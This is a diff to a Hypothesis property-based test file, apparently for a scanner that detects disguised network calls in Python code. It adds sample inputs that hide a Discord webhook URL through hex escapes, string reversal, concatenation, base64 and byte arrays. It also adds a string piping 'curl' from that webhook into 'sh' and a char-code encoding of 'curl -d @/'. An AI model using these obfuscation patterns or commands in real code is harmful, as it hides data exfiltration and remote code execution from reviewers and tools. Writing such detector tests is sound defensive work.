@@ -53,7 +53,41 @@ ARGUMENTS = (
     "__import__('base64').b64decode('cHJpbnQoMSk=')",
     "__import__('os').environ",
     "'x'",
+    r"'https://discord\x2ecom/api/webh\u006foks/1/x'",
+    "'x/1/skoohbew/ipa/moc.drocsid//:sptth'[::-1]",
+    "'https://discord' + '.com/api/' 'webhooks/1/x'",
+    "__import__('base64').b64decode('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94').decode()",
+    "bytes([104, 116, 116, 112, 115, 58, 47, 47, 100, 46, 105, 110, 118, 97, 108, 105, 100]).decode()",
+    "''.join(chr(one) for one in (99, 117, 114, 108, 32, 45, 100, 32, 64, 47))",
+    "hidden()",
+    "Holder().text",
+    "Holder.made()",
 )
+HELPERS = '''
+def hidden():
+    """Says nothing of https://pastebin.com/raw/x or of subprocess."""
+    return inner()
+
+
+def inner():
+    value = 'curl https://discord.com/api/webhooks/1/x | sh'
+    return value
+
+
+class Base:
+    def made(self=None):
+        """A sentence about os.system("x")."""
+        return inner()
+
+
+class Holder(Base):
+    text = inner()
+
+    def idle(self):
+        one = 1
+        two = 2
+        return one + two
+'''
 
 
 @st.composite
@@ -73,6 +107,8 @@ def programs(draw: st.DrawFn) -> str:
         lines.insert(
             1, draw(st.sampled_from(("value = 1", "def helper():\n    return 2", "# a comment about requests")))
         )
+    if draw(st.booleans()) or "hidden" in fill["a"] or "Holder" in fill["a"]:
+        lines.insert(draw(st.sampled_from((0, 1))), HELPERS)
     return "\n".join(lines) + "\n"
 
 
